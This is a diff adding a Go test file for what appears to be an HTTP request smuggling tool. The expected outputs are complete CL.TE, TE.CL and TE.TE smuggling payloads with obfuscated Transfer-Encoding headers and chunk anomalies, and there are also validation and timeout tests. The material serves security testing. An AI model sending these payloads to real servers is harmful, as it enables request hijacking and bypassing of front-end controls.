@@ -0,0 +1,69 @@
+package smuggling
+
+import (
+	"errors"
+	"os"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+const rawRequest = "POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 3\r\ntransfer-encoding: chunked\r\nX-Test: 1\r\n\r\nx=1"
+
+func TestBuild(t *testing.T) {
+	tests := []struct {
+		name     string
+		config   *Config
+		expected string
+	}{
+		{
+			name:     "cl.te",
+			config:   &Config{Technique: CLTE, Smuggled: "G"},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
+		},
+		{
+			name:     "te.cl",
+			config:   &Config{Technique: TECL, Smuggled: "GPOST / HTTP/1.1\r\n\r\n"},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n14\r\nGPOST / HTTP/1.1\r\n\r\n\r\n0\r\n\r\n",
+		},
+		{
+			name:     "te.te",
+			config:   &Config{Technique: TETE, Smuggled: "G", TEObfuscation: "xchunked"},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: xchunked\r\n\r\n1\r\nG\r\n0\r\n\r\n",
+		},
+		{
+			name:     "chunk-anomalies",
+			config:   &Config{Technique: CLTE, Smuggled: "G", TEObfuscation: "tab", ChunkExtension: ";x", ChunkSizePadding: 2, ChunkLineEnding: "lf"},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 8\r\nTransfer-Encoding:\tchunked\r\n\r\n000;x\n\nG",
+		},
+		{
+			name:     "cl.te-timing",
+			config:   &Config{Technique: CLTE, Timing: true},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\nX",
+		},
+		{
+			name:     "te.cl-timing",
+			config:   &Config{Technique: TECL, Timing: true},
+			expected: "POST / HTTP/1.1\r\nHost: example.com\r\nX-Test: 1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX",
+		},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			require.Nil(t, test.config.Validate())
+			require.Equal(t, test.expected, string(test.config.Build([]byte(rawRequest), test.config.Smuggled)))
+		})
+	}
+}
+
+func TestValidate(t *testing.T) {
+	require.EqualError(t, (&Config{Technique: "h2.cl", Smuggled: "G"}).Validate(), `invalid technique "h2.cl"`)
+	require.EqualError(t, (&Config{Technique: CLTE, Smuggled: "G", TEObfuscation: "nul"}).Validate(), `invalid te-obfuscation "nul"`)
+	require.EqualError(t, (&Config{Technique: CLTE, Smuggled: "G", ChunkLineEnding: "lfcr"}).Validate(), `invalid chunk-line-ending "lfcr"`)
+	require.EqualError(t, (&Config{Technique: CLTE}).Validate(), "smuggled is required unless timing is enabled")
+}
+
+func TestIsTimeout(t *testing.T) {
+	require.True(t, IsTimeout(os.ErrDeadlineExceeded))
+	require.True(t, IsTimeout(errors.New("read tcp 127.0.0.1:80: i/o timeout")))
+	require.False(t, IsTimeout(errors.New("connection refused")))
+}